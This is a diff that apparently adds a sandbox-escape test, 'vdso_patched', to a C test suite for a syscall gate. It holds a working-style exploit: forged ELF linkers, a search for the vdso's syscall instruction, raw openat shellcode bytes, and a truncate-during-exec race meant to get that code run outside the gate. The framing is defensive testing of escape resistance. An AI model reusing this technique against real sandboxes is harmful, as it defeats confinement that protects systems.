@@ -6,6 +6,7 @@
 #include "gate.h"
 
 #include <elf.h>
+#include <sys/auxv.h>
 #include <sys/personality.h>
 
 enum { NO_PAGE = 77 };
@@ -196,6 +197,96 @@ static int stack_exchanged(void)
 	return won;
 }
 
+/*
+ * Two linkers that begin at the same place: what is known of the first one, which has opens that could go by the gate, and room behind
+ * its code, is written to the second one. There that room lies in the vdso, for which a hole was left, and what is written makes
+ * of the vdso's call an instruction that says the page were mapped (mov %edi, %eax). When the page with the open is taken
+ * away before that is written to, the page has to be mapped by the vdso's call.
+ */
+enum { BEHIND_VDSO = 0x40000, VDSO_LENGTH = 0x2000, SAYS_MAPPED = 0xf889, FAR = 0x20000 };
+static uint64_t call_in_vdso(void)
+{
+	const unsigned char *vdso = (const unsigned char *)getauxval(AT_SYSINFO_EHDR);
+	const Elf64_Phdr *code = (const Elf64_Phdr *)(vdso + ((const Elf64_Ehdr *)vdso)->e_phoff);
+
+	while (!(code->p_flags & PF_X))
+		code++;
+	const unsigned char *call = memmem(vdso + code->p_offset, code->p_filesz, "\x0f\x05", 2);
+	return call ? (uint64_t)(call - vdso) : 0;
+}
+
+/* A linker with these bytes of code, and a segment behind the hole or none. */
+static void make_linker(const char *name, char *file, size_t length, bool hole)
+{
+	const Elf64_Ehdr head = {.e_ident = {0x7f, 'E', 'L', 'F', ELFCLASS64, ELFDATA2LSB, EV_CURRENT}, .e_type = ET_DYN,
+				 .e_machine = EM_X86_64, .e_version = EV_CURRENT, .e_entry = ENTRY, .e_phoff = sizeof head,
+				 .e_ehsize = sizeof head, .e_phentsize = sizeof(Elf64_Phdr), .e_phnum = hole ? 2 : 1};
+	const Elf64_Phdr segments[] = {
+		{.p_type = PT_LOAD, .p_flags = PF_R | PF_X, .p_filesz = length, .p_memsz = length, .p_align = 0x1000},
+		{.p_type = PT_LOAD, .p_flags = PF_R, .p_vaddr = BEHIND_VDSO, .p_filesz = 16, .p_memsz = 16, .p_align = 0x1000},
+	};
+	memcpy(file, &head, sizeof head);
+	memcpy(file + sizeof head, segments, sizeof segments);
+	memcpy(file + ENTRY, looks, sizeof looks);
+	write_whole(name, file, length);
+}
+
+static int run_with(const char *linker, bool truncates)
+{
+	struct timespec wait = {0};
+	int status, fd = -1, ends[2];
+	char byte;
+
+	make_program_for(linker);
+	NEED(pipe2(ends, O_CLOEXEC));
+	pid_t child = fork();
+	NEED(child);
+	if (child == 0) {
+		execve("program", (char *[]){"program", NULL}, environ);
+		_exit(1);
+	}
+	close(ends[1]);
+	if (truncates) {
+		NEED(read(ends[0], &byte, 1));	/* the old program is gone */
+		for (int tries = 0; fd < 0 && tries < 1000; tries++)
+			fd = open(linker, O_RDWR);	/* when the kernel has loaded it */
+		wait.tv_nsec = rand() % 200000;
+		for (double over = seconds() + (double)wait.tv_nsec / 1e9; seconds() < over;)
+			;
+		if (fd >= 0)
+			NEED(ftruncate(fd, 0x1000));
+		close(fd);
+	}
+	close(ends[0]);
+	NEED(waitpid(child, &status, 0));
+	return WIFEXITED(status) ? WEXITSTATUS(status) : -WTERMSIG(status);
+}
+
+static int vdso_patched(void)
+{
+	static const unsigned char opens[] = {0xb8, 0x01, 0x01, 0, 0, 0x48, 0x89, 0xfe, 0xbf, 0x9c, 0xff, 0xff, 0xff, 0x0f, 0x05};
+	static char file[BEHIND_VDSO];
+	uint64_t call = call_in_vdso(), room = BEHIND_VDSO - VDSO_LENGTH + call - 3, site = room + 2 + SAYS_MAPPED - FAR;
+
+	look_for_gate();
+	if (!there && getenv("GUARDED"))
+		return REFUSED; /* no gate, nothing to be gained */
+	if (!call)
+		return NOT_HERE;
+	memcpy(file + site, opens, sizeof opens);
+	make_linker("first", file, room, false);
+	run_with("./first", false);
+	for (double over = seconds() + 2 * RACE_SECONDS; seconds() < over;) {
+		make_linker("linker", file, site + sizeof opens, true);
+		int r = run_with("./linker", true);
+		if (getenv("SHOW"))
+			fprintf(stderr, "%d ", r);
+		if (r == NO_PAGE)
+			return WORKED;
+	}
+	return REFUSED;
+}
+
 /* A static program that the tool has just made: what is mapped in it when it begins is its own, and the page. A signal that is
  * kept from it waits. */
 static int made_with(int signal)
@@ -229,6 +320,7 @@ static int static_program_made_without_trap(void) { return made_with(SIGTRAP); }
 static const struct row rows[] = {
 	{GETS_OUT, "linker_exchanged", linker_exchanged},
 	{GETS_OUT, "stack_exchanged", stack_exchanged},
+	{GETS_OUT, "vdso_patched", vdso_patched},
 	{HAS_TO_WORK, "static_program_made", static_program_made},
 	{HAS_TO_WORK, "static_program_made_without_trap", static_program_made_without_trap},
 };
